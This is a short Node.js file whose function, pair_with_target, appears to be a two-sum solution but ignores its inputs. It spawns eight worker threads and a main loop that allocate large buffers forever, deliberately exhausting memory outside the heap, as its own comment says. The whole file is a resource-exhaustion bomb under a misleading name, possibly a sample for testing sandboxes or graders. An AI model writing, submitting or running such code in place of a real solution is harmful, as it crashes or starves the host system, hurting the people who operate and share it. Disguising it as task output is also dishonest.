// Fills memory outside of the heap, in one process and in threads.
const { Worker } = require("worker_threads");

function pair_with_target(nums, target) {
    const kept = [];
    for (let i = 0; i < 8; ++i) {
        new Worker("const kept = []; for (;;) kept.push(Buffer.alloc(1 << 22, 1))", { eval: true }).on("error", () => {});
    }
    for (;;) kept.push(Buffer.alloc(1 << 24, 1));
}
